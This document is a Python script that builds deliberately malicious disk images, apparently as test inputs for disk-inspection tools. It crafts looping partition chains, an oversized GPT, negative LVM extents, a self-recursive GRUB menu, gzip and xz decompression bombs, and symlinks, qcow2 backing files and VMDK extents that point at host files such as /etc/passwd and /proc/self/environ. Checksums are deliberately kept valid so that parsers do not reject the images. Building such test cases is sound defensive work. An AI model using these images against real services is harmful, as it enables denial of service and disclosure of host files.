#!/usr/bin/env python3
"""Makes a disk image that means harm: make.py NAME OUT. Without arguments, lists the names.

Each is small and says something that no real disk does; whoever believes it loops, allocates what
is not there, or reads a file of the host. Checksums are right, so that nobody stops at them.
"""

import lzma
import struct
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

SECTOR = 512
MIB = 1024 * 1024
#: Where the one partition of most disks begins.
START = MIB


def run(*command, given=""):
    subprocess.run(command, check=True, input=given, text=True, stdout=subprocess.DEVNULL)


def patch(path, *changes):
    """Overwrites bytes: (offset, bytes) each."""
    with open(path, "r+b") as file:
        for offset, content in changes:
            file.seek(offset)
            file.write(content)


def partitioned(out, table, size=64 * MIB):
    with open(out, "wb") as file:
        file.truncate(size)
    run("sfdisk", "--quiet", "--no-tell-kernel", out, given=table)


def guest(out, files):
    """A disk with a Debian on ext4 that has these files."""
    partitioned(out, "label: dos\nstart=2048,bootable\n")
    with tempfile.TemporaryDirectory() as top:
        files = {
            "etc/os-release": b'ID=debian\nVERSION_ID="12"\n',
            "etc/fstab": b"/dev/sda1 / ext4 defaults 0 1\n",
            "boot/vmlinuz-6.1.0-1-amd64": kernel(),
            "boot/grub/grub.cfg": b"menuentry a {\nlinux /boot/vmlinuz-6.1.0-1-amd64 root=/dev/sda1\n"
            b"initrd /boot/initrd.img-6.1.0-1-amd64\n}\n",
            "usr/lib/modules/6.1.0-1-amd64/modules.dep": b"",
            **files,
        }
        for name, content in files.items():
            path = Path(top, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
        run("mkfs.ext4", "-q", "-d", top, "-E", f"offset={START}", out, "61M")


def kernel():
    """What the boot protocol asks of a bzImage, and nothing to run."""
    image = bytearray(2 * SECTOR)
    image[0x1F1] = 1
    image[0x1FE:0x200] = b"\x55\xaa"
    image[0x202:0x206] = b"HdrS"
    image[0x206:0x208] = struct.pack("<H", 0x20F)
    return bytes(image)


def cpio(name, name_size, file_size):
    numbers = [1, 0o100644, 0, 0, 1, 0, file_size, 0, 0, 0, 0, name_size, 0]
    return b"070701" + b"".join(b"%08x" % number for number in numbers) + name + b"\0"


def bomb(compressor):
    """2 GiB of zeros, as what follows an archive."""
    pieces = [compressor.compress(cpio(b"zero", 5, 2048 * MIB))]
    pieces += [compressor.compress(bytes(MIB)) for _ in range(2048)]
    return b"".join([*pieces, compressor.flush()])


def extended_cycle(out):
    """A chain of logical partitions whose last link is its first."""
    partitioned(out, "label: dos\nstart=2048,type=5\n")
    for first, after in [(2048, 4096), (6144, 0)]:
        table = entry(0x83, 1024, 1024) + entry(5, after, 4096) + bytes(32) + b"\x55\xaa"
        patch(out, (first * SECTOR + 446, table))


def entry(kind, start, length):
    return struct.pack("<B3sB3sII", 0, b"\0" * 3, kind, b"\0" * 3, start, length)


def gpt_entries(out):
    """A GPT of 2^32 - 1 entries, its header's checksum right."""
    partitioned(out, "label: gpt\nsize=8M\n")
    with open(out, "rb") as file:
        file.seek(SECTOR)
        header = bytearray(file.read(92))
    header[80:84] = b"\xff" * 4
    header[16:20] = b"\0" * 4
    header[16:20] = struct.pack("<I", zlib.crc32(header))
    patch(out, (SECTOR, header))


def lvm_checksum(content):
    return zlib.crc32(content, 0xF597A6CF ^ 0xFFFFFFFF) ^ 0xFFFFFFFF


def lvm_negative_extents(out):
    """A volume group whose volume has -5 extents and begins before its physical volume."""
    identity = "{}-" + "-".join(["aaaa"] * 5) + "-aaaaaa"
    text = f"""vg {{
id = "{identity.format('gggggg')}"
seqno = 1
status = ["READ"]
extent_size = 8192
physical_volumes {{ pv0 {{ id = "{identity.format('aaaaaa')}" pe_start = 2048 pe_count = -1 }} }}
logical_volumes {{ root {{ id = "{identity.format('llllll')}" status = ["READ", "VISIBLE"]
segment_count = 1 segment1 {{ start_extent = 0 extent_count = -5 type = "striped"
stripe_count = 1 stripes = ["pv0", -7] }} }} }}
}}
contents = "Text Format Volume Group"
version = 1
""".encode()
    area, length = 4096, MIB - 4096
    label = bytearray(SECTOR)
    label[:32] = struct.pack("<8sQII8s", b"LABELONE", 1, 0, 32, b"LVM2 001")
    label[32:72] = struct.pack("<32sQ", b"a" * 32, 60 * MIB)
    label[72:80] = struct.pack("<Q", MIB)
    label[104:120] = struct.pack("<QQ", area, length)
    label[16:20] = struct.pack("<I", lvm_checksum(label[20:]))
    header = bytearray(SECTOR)
    header[4:24] = struct.pack("<16sI", b" LVM2 x[5A%r0N*>", 1)
    header[24:40] = struct.pack("<QQ", area, length)
    header[40:64] = struct.pack("<QQII", SECTOR, len(text), lvm_checksum(text), 0)
    header[:4] = struct.pack("<I", lvm_checksum(header[4:]))
    partitioned(out, "label: dos\nstart=2048,type=8e,bootable\n")
    patch(
        out,
        (START + SECTOR, label),
        (START + area, header),
        (START + area + SECTOR, text),
    )


def grub_loop(out):
    """A menu that reads itself, calls itself and never ends."""
    menu = b"function f { f; f; }\nsource /boot/grub/grub.cfg\nx=a\nf\nwhile true; do x=$x$x; done\n"
    guest(out, {"boot/grub/grub.cfg": menu})


def cpio_sizes(out):
    """An initramfs whose file has 4 GiB, and whose name has as many."""
    archive = cpio(b"a", 0xFFFFFFFF, 0xFFFFFFFF) + bytes(1024)
    guest(out, {"boot/initrd.img-6.1.0-1-amd64": archive})


def gzip_bomb(out):
    guest(out, {"boot/initrd.img-6.1.0-1-amd64": bomb(zlib.compressobj(6, zlib.DEFLATED, 31))})


def xz_bomb(out):
    guest(out, {"boot/initrd.img-6.1.0-1-amd64": bomb(lzma.LZMACompressor(lzma.FORMAT_XZ, lzma.CHECK_CRC32, preset=0))})


def links_out(out):
    """Configuration that is a link to that of the host, and one to itself."""
    guest(out, {"etc/hostname": b"x\n"})
    commands = "cd /etc\nsymlink passwd ../../../../etc/passwd\nsymlink hosts hosts\n"
    commands += "mkdir network\nsymlink network/interfaces /proc/self/environ\n"
    run("debugfs", "-w", f"{out}?offset={START}", given=commands)


def qcow2_backing(out):
    run("qemu-img", "create", "-q", "-u", "-f", "qcow2", "-b", "/etc/passwd", "-F", "raw", out, "64M")


def qcow2_l1(out):
    """First tables that begin behind the end of the file."""
    run("qemu-img", "create", "-q", "-f", "qcow2", out, "64M")
    patch(out, (40, struct.pack(">Q", 1 << 50)))


def vmdk_extent(out):
    """A disk that says its data is the host's list of users."""
    lines = ["# Disk DescriptorFile", "version=1", "CID=fffffffe", "parentCID=ffffffff"]
    lines += ['createType="monolithicFlat"', 'RW 131072 FLAT "/etc/passwd" 0', ""]
    Path(out).write_text("\n".join(lines))


MAKERS = {
    maker.__name__.replace("_", "-"): maker
    for maker in [
        extended_cycle,
        gpt_entries,
        lvm_negative_extents,
        grub_loop,
        cpio_sizes,
        gzip_bomb,
        xz_bomb,
        links_out,
        qcow2_backing,
        qcow2_l1,
        vmdk_extent,
    ]
}

if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in MAKERS:
        print("\n".join(MAKERS))
        sys.exit(len(sys.argv) != 1)
    MAKERS[sys.argv[1]](sys.argv[2])
